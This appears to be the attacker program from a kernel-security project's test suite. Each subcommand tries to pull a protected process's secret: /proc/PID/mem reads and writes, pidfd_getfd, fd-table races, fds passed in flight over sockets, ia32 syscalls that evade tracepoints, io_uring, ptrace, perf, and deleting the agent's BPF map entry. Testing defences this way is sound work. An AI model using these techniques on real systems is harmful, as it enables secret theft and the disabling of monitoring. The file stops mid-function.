/*
 * The attacker of the kernel tests and the attack matrix: one static program, one subcommand
 * per vector of docs/THREAT-MODEL.md. Whatever it obtains goes to stdout (the tests search it
 * for the secret); when the kernel refuses a call it prints "refused: CALL: ERROR" to stderr and
 * exits 3. Killed by the agent, it dies of SIGKILL before printing anything.
 *
 *   attacker [--in-pod [--ptrace] [--seccomp]] VECTOR ARGS...
 *
 * --in-pod drops to a container's default capabilities (containerd's set; CAP_SYS_PTRACE added
 * with --ptrace) and sets no_new_privs; --seccomp adds a filter refusing (EPERM) what the
 * runtime's default profile refuses such a container. Built by tests/harness/attacking.py with
 * gcc -static, so it runs anywhere.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef MADV_COLD
#define MADV_COLD 20
#endif

static void refused(const char *call)
{
	fprintf(stderr, "refused: %s: %s\n", call, strerror(errno));
	exit(3);
}

static void out(const void *buf, ssize_t n)
{
	if (n > 0 && fwrite(buf, 1, (size_t)n, stdout) != (size_t)n)
		exit(5);
	fflush(stdout);
}

static unsigned long num(const char *s)
{
	return strtoul(s, NULL, 0);
}

static void sleep_ms(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};

	nanosleep(&ts, NULL);
}

/* ---- in-pod: a container's default capabilities, optionally its seccomp filter --------- */

/* containerd's default capability set (pkg/oci: defaultUnixCaps). */
static const int pod_caps[] = {
	CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_FSETID, CAP_FOWNER, CAP_MKNOD, CAP_NET_RAW, CAP_SETGID,
	CAP_SETUID, CAP_SETFCAP, CAP_SETPCAP, CAP_NET_BIND_SERVICE, CAP_SYS_CHROOT, CAP_KILL,
	CAP_AUDIT_WRITE,
};

static void become_pod(int with_ptrace)
{
	struct __user_cap_header_struct hdr = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct data[2];
	unsigned long long keep = 0;

	memset(data, 0, sizeof(data));
	for (size_t i = 0; i < sizeof(pod_caps) / sizeof(pod_caps[0]); i++)
		keep |= 1ull << pod_caps[i];
	if (with_ptrace)
		keep |= 1ull << CAP_SYS_PTRACE;
	for (int cap = 0; cap <= 63; cap++)
		if (!(keep & (1ull << cap)) && prctl(PR_CAPBSET_DROP, cap, 0, 0, 0) && errno != EINVAL)
			refused("PR_CAPBSET_DROP");
	data[0].effective = data[0].permitted = data[0].inheritable = (uint32_t)keep;
	data[1].effective = data[1].permitted = data[1].inheritable = (uint32_t)(keep >> 32);
	if (syscall(SYS_capset, &hdr, data))
		refused("capset");
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0))
		refused("PR_SET_NO_NEW_PRIVS");
}

/* What the runtime's default seccomp profile refuses a container without CAP_SYS_ADMIN,
 * CAP_BPF or CAP_PERFMON (containerd contrib/seccomp: allowed only with those, or never). */
static const int pod_denied[] = {
	SYS_bpf, SYS_perf_event_open, SYS_io_uring_setup, SYS_io_uring_enter, SYS_io_uring_register,
	SYS_open_by_handle_at, SYS_name_to_handle_at, SYS_unshare, SYS_setns, SYS_mount,
	SYS_umount2, SYS_add_key, SYS_keyctl, SYS_request_key, SYS_userfaultfd, SYS_kexec_load,
	SYS_init_module, SYS_finit_module, SYS_delete_module, SYS_kcmp, SYS_quotactl,
	SYS_pivot_root, SYS_fanotify_init, SYS_process_madvise,
};

/* The same, by their ia32 numbers: the default profile admits the x86 sub-architecture. */
static const int pod_denied_ia32[] = {
	357 /* bpf */, 336 /* perf_event_open */, 425, 426, 427 /* io_uring_* */,
	342 /* open_by_handle_at */, 341 /* name_to_handle_at */, 310 /* unshare */, 346 /* setns */,
	21 /* mount */, 52 /* umount2 */, 286, 288, 287 /* keyrings */, 374 /* userfaultfd */,
	283 /* kexec_load */, 128, 350, 129 /* modules */, 349 /* kcmp */, 131 /* quotactl */,
	217 /* pivot_root */, 338 /* fanotify_init */, 440 /* process_madvise */,
};

static void pod_seccomp(void)
{
	enum { N = sizeof(pod_denied) / sizeof(pod_denied[0]) };
	enum { M = sizeof(pod_denied_ia32) / sizeof(pod_denied_ia32[0]) };
	struct sock_filter filter[8 + 2 * N + 2 * M];
	struct sock_fprog prog;
	int i = 0;

	filter[i++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 4); /* arch */
	filter[i++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 2, 0);
	filter[i++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_I386,
						   (unsigned char)(3 + 2 * N), 0);
	filter[i++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL_PROCESS);
	filter[i++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0); /* x86_64 nr */
	for (int n = 0; n < N; n++) {
		filter[i++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, pod_denied[n], 0, 1);
		filter[i++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM);
	}
	filter[i++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	filter[i++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0); /* ia32 nr */
	for (int n = 0; n < M; n++) {
		filter[i++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, pod_denied_ia32[n], 0, 1);
		filter[i++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM);
	}
	filter[i++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	prog.len = (unsigned short)i;
	prog.filter = filter;
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog))
		refused("seccomp");
}

/* ---- files -------------------------------------------------------------------------------- */

static void dump_fd(int fd)
{
	char buf[65536];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		out(buf, n);
	if (n < 0)
		refused("read");
}

static void dump_mapped(int fd)
{
	struct stat st;
	void *m;

	if (fstat(fd, &st))
		refused("fstat");
	m = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED)
		refused("mmap");
	out(m, st.st_size);
}

static int open_or_refused(const char *path, int flags)
{
	int fd = open(path, flags);

	if (fd < 0)
		refused("open");
	return fd;
}

/* read PATH: open and read it. */
static int v_read(char **a)
{
	dump_fd(open_or_refused(a[0], O_RDONLY));
	return 0;
}

/* mem PATH ADDR LEN: pread /proc/PID/mem at ADDR. */
static int v_mem(char **a)
{
	size_t len = num(a[2]);
	char *buf = malloc(len);
	int fd = open_or_refused(a[0], O_RDONLY);
	ssize_t n = pread(fd, buf, len, (off_t)num(a[1]));

	if (n < 0)
		refused("pread");
	out(buf, n);
	return 0;
}

/* map PATH: open and mmap it (memfd_secret has no read()). */
static int v_map(char **a)
{
	dump_mapped(open_or_refused(a[0], O_RDONLY));
	return 0;
}

/* creat-mem PID ADDR: creat() /proc/PID/mem, which gives a write fd, and write a marker at
 * ADDR (code injection); prints what is there afterwards. */
static int v_creat_mem(char **a)
{
	char path[64], back[8];
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/mem", a[0]);
	fd = creat(path, 0600);
	if (fd < 0)
		refused("creat");
	if (pwrite(fd, "INJECTED", 8, (off_t)num(a[1])) != 8)
		refused("pwrite");
	n = pread(open_or_refused(path, O_RDONLY), back, sizeof(back), (off_t)num(a[1]));
	out(back, n);
	return 0;
}

/* handle PATH: the inode behind PATH (e.g. /proc/PID/fd/N of a memfd) reopened with
 * open_by_handle_at, through a memfd of our own on the same internal mount. */
static int v_handle(char **a)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[128];
	} h;
	int mount_id, mine, fd;

	h.fh.handle_bytes = sizeof(h.bytes);
	if (name_to_handle_at(AT_FDCWD, a[0], &h.fh, &mount_id, AT_SYMLINK_FOLLOW))
		refused("name_to_handle_at");
	mine = memfd_create("mount", 0);
	if (mine < 0)
		refused("memfd_create");
	fd = open_by_handle_at(mine, &h.fh, O_RDONLY);
	if (fd < 0)
		refused("open_by_handle_at");
	dump_fd(fd);
	return 0;
}

static int pidfd_getfd_of(const char *pid, const char *fd)
{
	int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)num(pid), 0);
	int got;

	if (pidfd < 0)
		refused("pidfd_open");
	got = (int)syscall(SYS_pidfd_getfd, pidfd, (int)num(fd), 0);
	if (got < 0)
		refused("pidfd_getfd");
	return got;
}

/* getfd-map PID FD: pidfd_getfd of the protected process's FD, then mmap it. */
static int v_getfd_map(char **a)
{
	dump_mapped(pidfd_getfd_of(a[0], a[1]));
	return 0;
}

/* ---- an fd that outlives its opener ---------------------------------------------------------
 * The opener and a sibling share one fd table (clone CLONE_FILES): an fd the opener obtains
 * stays in the table when the opener is killed, and the sibling uses it. With CLONE_VM as well
 * the sibling also shares the opener's memory with an accomplice that makes no syscall on the
 * file at all. */

static int next_fd;         /* the number the opener's fd gets (the lowest free one) */
static int racing;          /* the sibling uses the fd the moment it appears, no pause */
static char mode;           /* the sibling: 'r' read, 'm' mmap, 'p' pread at addr */
static off_t at;            /* 'p' */
static size_t len;          /* 'p' */
static char *shared;        /* CLONE_VM: the buffer the sibling reads into */
static size_t shared_len;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Until the opener's fd appears in the shared table (2 s at most): polled without pause when
 * racing, else every 10 ms. */
static void wait_for_fd(void)
{
	double deadline = now() + 2.0;

	while (now() < deadline) {
		if (fcntl(next_fd, F_GETFD) != -1)
			return;
		if (!racing)
			sleep_ms(10);
	}
	fprintf(stderr, "refused: the opener got no fd\n");
	_exit(3);
}

static int sibling(void *arg)
{
	ssize_t n;

	(void)arg;
	wait_for_fd();
	if (!racing)
		sleep_ms(100); /* the opener's SIGKILL has landed */
	switch (mode) {
	case 'r':
		if (shared) { /* into memory the accomplice watches */
			n = read(next_fd, shared, shared_len);
			if (n < 0)
				refused("read");
		} else {
			dump_fd(next_fd);
		}
		break;
	case 'p': {
		char *buf = malloc(len);

		n = pread(next_fd, buf, len, at);
		if (n < 0)
			refused("pread");
		out(buf, n);
		break;
	}
	default:
		if (shared) {
			if (mmap(NULL, 4096, PROT_READ, MAP_SHARED, next_fd, 0) == MAP_FAILED)
				refused("mmap");
		} else {
			dump_mapped(next_fd);
		}
	}
	_exit(0);
}

/* The accomplice (CLONE_VM, its own fd table): waits until the shared buffer fills or a
 * secretmem mapping appears in the shared address space, and prints it. No syscall of it
 * touches the protected file. */
static int accomplice(void *arg)
{
	char line[512];

	(void)arg;
	for (int i = 0; i < 300; i++) {
		if (shared && shared[0]) {
			out(shared, (ssize_t)strnlen(shared, shared_len));
			_exit(0);
		}
		if (!shared) {
			FILE *maps = fopen("/proc/self/maps", "r");
			unsigned long start, end;

			while (maps && fgets(line, sizeof(line), maps)) {
				if (!strstr(line, "secretmem") && !strstr(line, "memfd:"))
					continue;
				if (sscanf(line, "%lx-%lx", &start, &end) == 2) {
					out((void *)start, (ssize_t)strnlen((char *)start, end - start));
					_exit(0);
				}
			}
			if (maps)
				fclose(maps);
		}
		sleep_ms(10);
	}
	fprintf(stderr, "refused: nothing reached the shared memory\n");
	_exit(3);
}

static char stacks[2][1 << 16];

static int wait_status(pid_t pid)
{
	int status;

	if (waitpid(pid, &status, __WALL) < 0)
		return 6;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* Run `opener` with a fd-table-sharing sibling (and, with `vm`, an accomplice sharing the
 * sibling's memory: 1, all of it (CLONE_VM); 2, only a MAP_SHARED buffer (a separate process));
 * exit with the status of the one that prints. */
static int shared_table(int (*opener)(char **), char **a, int vm)
{
	pid_t sib, acc = 0;
	int probe = dup(0);

	if (probe < 0)
		refused("dup");
	next_fd = probe;
	close(probe);
	if (vm) {
		shared_len = 4096;
		shared = mmap(NULL, shared_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
		if (mode == 'm')
			shared = NULL; /* the accomplice looks for the mapping itself */
		acc = clone(accomplice, stacks[1] + sizeof(stacks[1]), (vm == 1 ? CLONE_VM : 0) | SIGCHLD,
			    NULL);
	}
	sib = clone(sibling, stacks[0] + sizeof(stacks[0]),
		    CLONE_FILES | (vm ? CLONE_VM : 0) | SIGCHLD, NULL);
	if (sib < 0 || acc < 0)
		refused("clone");
	if (opener(a) != next_fd)
		fprintf(stderr, "the opener's fd is not the expected one\n");
	/* Still alive (audit, or refused): let the others finish. */
	if (vm) {
		wait_status(sib);
		return wait_status(acc);
	}
	return wait_status(sib);
}

static int open_ro(char **a)
{
	return open(a[0], O_RDONLY);
}

static int pidfd = -1; /* opened before the shared table's next fd is chosen */

static int getfd(char **a)
{
	int got = (int)syscall(SYS_pidfd_getfd, pidfd, (int)num(a[1]), 0);

	if (got < 0)
		refused("pidfd_getfd");
	return got;
}

static void open_pidfd(const char *pid)
{
	pidfd = (int)syscall(SYS_pidfd_open, (pid_t)num(pid), 0);
	if (pidfd < 0)
		refused("pidfd_open");
}

/* shared-read PATH | shared-pread PATH ADDR LEN | shared-getfd-map PID FD |
 * vm-read PATH | vm-getfd-map PID FD */
static int v_shared_read(char **a)
{
	mode = 'r';
	return shared_table(open_ro, a, 0);
}

static int v_shared_pread(char **a)
{
	mode = 'p';
	at = (off_t)num(a[1]);
	len = num(a[2]);
	return shared_table(open_ro, a, 0);
}

static int v_shared_getfd_map(char **a)
{
	mode = 'm';
	open_pidfd(a[0]);
	return shared_table(getfd, a, 0);
}

static int v_vm_read(char **a)
{
	mode = 'r';
	return shared_table(open_ro, a, 1);
}

/* shm-race PATH: the sibling reads the moment the fd appears, into a MAP_SHARED buffer that a
 * separate process (no shared fd table, no shared memory but that buffer) prints. */
static int v_shm_race(char **a)
{
	mode = 'r';
	racing = 1;
	return shared_table(open_ro, a, 2);
}

static int v_vm_getfd_map(char **a)
{
	mode = 'm';
	open_pidfd(a[0]);
	return shared_table(getfd, a, 1);
}

/* in-flight PATH: open PATH now (before the target registers), put the fd in flight in a unix
 * socket and close it, then wait for a line on stdin (after the registration) to receive and
 * read it: the registration's fd scan cannot see an fd in flight. */
static int v_in_flight(char **a)
{
	int sv[2], fd = open_or_refused(a[0], O_RDONLY), got = -1;
	char cbuf[CMSG_SPACE(sizeof(int))], c = 0, line[8];
	struct iovec iov = {&c, 1};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			     .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *cm;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv))
		refused("socketpair");
	cm = CMSG_FIRSTHDR(&msg);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	if (sendmsg(sv[0], &msg, 0) != 1)
		refused("sendmsg");
	close(fd);
	fprintf(stderr, "in flight\n");
	if (!fgets(line, sizeof(line), stdin))
		refused("stdin");
	if (recvmsg(sv[1], &msg, 0) != 1)
		refused("recvmsg");
	cm = CMSG_FIRSTHDR(&msg);
	memcpy(&got, CMSG_DATA(cm), sizeof(int));
	dump_fd(got);
	return 0;
}

/* ---- 32-bit (ia32) syscalls from this 64-bit process: int $0x80 ---------------------------------
 * Other numbers, other registers, pointers below 4 GiB: the same vectors through the compat
 * entry, which classic syscall tracepoints do not even see. */

static long sys32(long nr, long a1, long a2, long a3, long a4, long a5)
{
	long ret;

	__asm__ volatile("push %%rbp\n\txor %%ebp, %%ebp\n\tint $0x80\n\tpop %%rbp"
			 : "=a"(ret)
			 : "a"(nr), "b"(a1), "c"(a2), "d"(a3), "S"(a4), "D"(a5)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static char *low; /* a buffer below 4 GiB: the only addresses an ia32 call takes */

static void low_buffer(const char *path)
{
	low = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
		   -1, 0);
	if (low == MAP_FAILED)
		refused("mmap MAP_32BIT");
	if (path)
		snprintf(low, 4096, "%s", path);
}

static int open32(void)
{
	long fd = sys32(5, (long)(uintptr_t)low, O_RDONLY, 0, 0, 0); /* open */

	if (fd < 0) {
		errno = (int)-fd;
		refused("ia32 open");
	}
	return (int)fd;
}

static void dump32(int fd, long n)
{
	long got = sys32(3, fd, (long)(uintptr_t)(low + 4096), n, 0, 0); /* read */

	if (got < 0) {
		errno = (int)-got;
		refused("ia32 read");
	}
	out(low + 4096, got);
}

/* ia32-read PATH */
static int v_ia32_read(char **a)
{
	low_buffer(a[0]);
	dump32(open32(), 32768);
	return 0;
}

/* ia32-mem PATH ADDR LEN: open, _llseek to ADDR, read. */
static int v_ia32_mem(char **a)
{
	unsigned long long addr = num(a[1]);
	int fd;

	low_buffer(a[0]);
	fd = open32();
	if (sys32(140, fd, (long)(addr >> 32), (long)(addr & 0xffffffffu),
		  (long)(uintptr_t)(low + 2048), SEEK_SET) < 0) /* _llseek */
		refused("ia32 _llseek");
	dump32(fd, (long)num(a[2]));
	return 0;
}

/* ia32-getfd-map PID FD: pidfd_getfd and mmap2 of the protected process's secret fd. */
static int v_ia32_getfd_map(char **a)
{
	long pidfd, fd, addr;
	struct stat st;

	low_buffer(NULL);
	pidfd = sys32(434, (long)num(a[0]), 0, 0, 0, 0); /* pidfd_open */
	fd = pidfd < 0 ? pidfd : sys32(438, pidfd, (long)num(a[1]), 0, 0, 0); /* pidfd_getfd */
	if (fd < 0) {
		errno = (int)-fd;
		refused("ia32 pidfd_getfd");
	}
	if (fstat((int)fd, &st))
		refused("fstat");
	addr = sys32(192, 0, st.st_size, PROT_READ, MAP_SHARED, fd); /* mmap2, pgoff 0 */
	if (addr < 0 && addr > -4096) {
		errno = (int)-addr;
		refused("ia32 mmap2");
	}
	out((void *)(uintptr_t)(unsigned long)(unsigned int)addr, st.st_size);
	return 0;
}

/* ia32-ptrace PID ADDR: PTRACE_SEIZE through the compat entry, then an ordinary PEEKDATA. */
/* A seized tracee: stop it and read one word at addr (the PTRACE_PEEKDATA rows). */
static int interrupt_and_peek(pid_t pid, const char *addr)
{
	long word;

	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0))
		refused("PTRACE_INTERRUPT");
	waitpid(pid, NULL, __WALL);
	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, pid, (void *)num(addr), 0);
	if (errno)
		refused("PTRACE_PEEKDATA");
	out(&word, sizeof(word));
	return 0;
}

static int v_ia32_ptrace(char **a)
{
	pid_t pid = (pid_t)num(a[0]);
	long rc = sys32(26, PTRACE_SEIZE, pid, 0, 0, 0);

	if (rc < 0) {
		errno = (int)-rc;
		refused("ia32 PTRACE_SEIZE");
	}
	return interrupt_and_peek(pid, a[1]);
}

/* ---- io_uring --------------------------------------------------------------------------------- */

struct ring {
	int fd;
	struct io_uring_sqe *sqes;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_cqe *cqes;
};

static void ring_setup(struct ring *r)
{
	struct io_uring_params p;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	r->fd = (int)syscall(SYS_io_uring_setup, 8, &p);
	if (r->fd < 0)
		refused("io_uring_setup");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		refused("mmap ring");
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
}

/* Submit one SQE (filled by the caller) and wait for its completion: its result. */
static int ring_run(struct ring *r, struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
	int res;

	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		refused("io_uring_enter");
	head = *r->cq_head;
	res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

/* uring-linked PATH [OFFSET]: IORING_OP_OPENAT into an empty fixed-file slot linked to an
 * IORING_OP_READ of that slot, both in one submission: at submission the slot is still empty. */
static int v_uring_linked(char **a)
{
	struct ring r;
	struct io_uring_sqe sqe[2];
	static char buf[65536];
	int slots[1] = {-1}, res = 0;
	unsigned tail, head;

	ring_setup(&r);
	if (syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_FILES, slots, 1) < 0)
		refused("io_uring_register");
	memset(sqe, 0, sizeof(sqe));
	sqe[0].opcode = IORING_OP_OPENAT;
	sqe[0].fd = AT_FDCWD;
	sqe[0].addr = (unsigned long)a[0];
	sqe[0].open_flags = O_RDONLY;
	sqe[0].file_index = 1; /* slot 0 */
	sqe[0].flags = IOSQE_IO_LINK;
	sqe[1].opcode = IORING_OP_READ;
	sqe[1].fd = 0;
	sqe[1].flags = IOSQE_FIXED_FILE;
	sqe[1].addr = (unsigned long)buf;
	sqe[1].len = sizeof(buf);
	sqe[1].off = a[1] ? num(a[1]) : 0;
	tail = *r.sq_tail;
	for (unsigned i = 0; i < 2; i++) {
		unsigned idx = (tail + i) & *r.sq_mask;

		r.sqes[idx] = sqe[i];
		r.sq_array[idx] = idx;
	}
	__atomic_store_n(r.sq_tail, tail + 2, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r.fd, 2, 2, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		refused("io_uring_enter");
	for (head = *r.cq_head; head != *r.cq_tail; head++)
		res = r.cqes[head & *r.cq_mask].res;
	if (res < 0) {
		errno = -res;
		refused("linked IORING_OP_READ");
	}
	out(buf, res);
	return 0;
}

/* uring-read PATH [fixed|splice]: IORING_OP_OPENAT (into the fd table, or a fixed-file slot),
 * then IORING_OP_READ of it, or IORING_OP_SPLICE from the fixed slot into a pipe. */
static int v_uring(char **a, const char *how)
{
	struct ring r;
	struct io_uring_sqe sqe;
	static char buf[65536];
	int fd, res, fixed = how && strcmp(how, "plain"), pipefd[2];

	ring_setup(&r);
	if (fixed) {
		int slots[1] = {-1};

		if (syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_FILES, slots, 1) < 0)
			refused("io_uring_register");
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)a[0];
	sqe.open_flags = O_RDONLY;
	if (fixed)
		sqe.file_index = 1; /* slot 0 */
	res = ring_run(&r, &sqe);
	if (res < 0) {
		errno = -res;
		refused("IORING_OP_OPENAT");
	}
	fd = fixed ? 0 : res;
	if (how && !strcmp(how, "splice")) {
		if (pipe(pipefd))
			refused("pipe");
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_SPLICE;
		sqe.fd = pipefd[1];
		sqe.splice_fd_in = 0;
		sqe.splice_flags = SPLICE_F_FD_IN_FIXED;
		sqe.len = sizeof(buf);
		sqe.splice_off_in = 0;
		sqe.off = (unsigned long long)-1;
		res = ring_run(&r, &sqe);
		if (res < 0) {
			errno = -res;
			refused("IORING_OP_SPLICE");
		}
		out(buf, read(pipefd[0], buf, (size_t)res));
		return 0;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.flags = fixed ? IOSQE_FIXED_FILE : 0;
	sqe.addr = (unsigned long)buf;
	sqe.len = sizeof(buf);
	res = ring_run(&r, &sqe);
	if (res < 0) {
		errno = -res;
		refused("IORING_OP_READ");
	}
	out(buf, res);
	return 0;
}

/* ---- memory without files --------------------------------------------------------------------- */

/* ptrace PID ADDR: PTRACE_SEIZE and one PEEKDATA word. */
static int v_ptrace(char **a)
{
	pid_t pid = (pid_t)num(a[0]);

	if (ptrace(PTRACE_SEIZE, pid, 0, 0))
		refused("PTRACE_SEIZE");
	return interrupt_and_peek(pid, a[1]);
}

/* vm-readv PID ADDR LEN: process_vm_readv. */
static int v_vm_readv(char **a)
{
	size_t n = num(a[2]);
	char *buf = malloc(n);
	struct iovec local = {buf, n}, remote = {(void *)num(a[1]), n};
	ssize_t got = process_vm_readv((pid_t)num(a[0]), &local, 1, &remote, 1, 0);

	if (got < 0)
		refused("process_vm_readv");
	out(buf, got);
	return 0;
}

/* perf PID|-1: perf_event_open sampling user stacks and registers of PID (or of every task on
 * CPU 0) for a second; prints the raw samples. */
static int v_perf(char **a)
{
	struct perf_event_attr attr;
	struct perf_event_mmap_page *page;
	long pid = strtol(a[0], NULL, 0);
	size_t size = (1 + 16) * 4096;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.size = sizeof(attr);
	attr.type = PERF_TYPE_SOFTWARE;
	attr.config = PERF_COUNT_SW_CPU_CLOCK;
	attr.sample_freq = 1000;
	attr.freq = 1;
	attr.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER | PERF_SAMPLE_REGS_USER;
	attr.sample_stack_user = 8192;
	attr.sample_regs_user = 0xff;
	attr.exclude_kernel = 1;
	fd = (int)syscall(SYS_perf_event_open, &attr, (pid_t)pid, pid < 0 ? 0 : -1, -1, 0);
	if (fd < 0)
		refused("perf_event_open");
	page = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (page == MAP_FAILED)
		refused("mmap perf");
	sleep_ms(1000);
	out((char *)page + page->data_offset, (ssize_t)(page->data_head < page->data_size
						      ? page->data_head : page->data_size));
	return 0;
}

/* madvise PID ADDR LEN: process_madvise(MADV_COLD) on a range of PID. */
static int v_madvise(char **a)
{
	int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)num(a[0]), 0);
	struct iovec iov = {(void *)(num(a[1]) & ~4095ul), 4096};

	if (pidfd < 0)
		refused("pidfd_open");
	if (syscall(SYS_process_madvise, pidfd, &iov, 1, MADV_COLD, 0) < 0)
		refused("process_madvise");
	return 0;
}

/* ---- the kernel's tracing and the agent itself ----------------------------------------------- */

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

/* bpf-load: load a (harmless) tracepoint program: the kind that could read a protected
 * process's memory from its own context. */
static int v_bpf_load(char **a)
{
	struct bpf_insn insns[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr attr;

	(void)a;
	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_TRACEPOINT;
	attr.insns = (unsigned long)insns;
	attr.insn_cnt = 2;
	attr.license = (unsigned long)"GPL";
	if (sys_bpf(BPF_PROG_LOAD, &attr) < 0)
		refused("BPF_PROG_LOAD");
	printf("loaded\n");
	return 0;
}

/* map-delete PIN KEY: delete the u32 KEY from the pinned map PIN (the agent's `protected`). */
static int v_map_delete(char **a)
{
	union bpf_attr attr;
	uint32_t key = (uint32_t)num(a[1]);
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.pathname = (unsigned long)a[0];
	fd = (int)sys_bpf(BPF_OBJ_GET, &attr);
	if (fd < 0)
		refused("BPF_OBJ_GET");
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = (uint32_t)fd;
	attr.key = (unsigned long)&key;
	if (sys_bpf(BPF_MAP_DELETE_ELEM, &attr) < 0)
		refused("BPF_MAP_DELETE_ELEM");
	printf("deleted\n");
	return 0;
}

/* agent-op PIN KEY: run the pinned agent_op program to delete KEY from `protected`, as if we
 * were the agent. Its result: 0, or the errno the program refused with. */
static int v_agent_op(char **a)
{
	struct {
		uint32_t op, map;
		uint64_t flags;
		uint8_t key[32], value[32];
		int32_t result;
		uint32_t pad;
	} op;
	union bpf_attr attr;
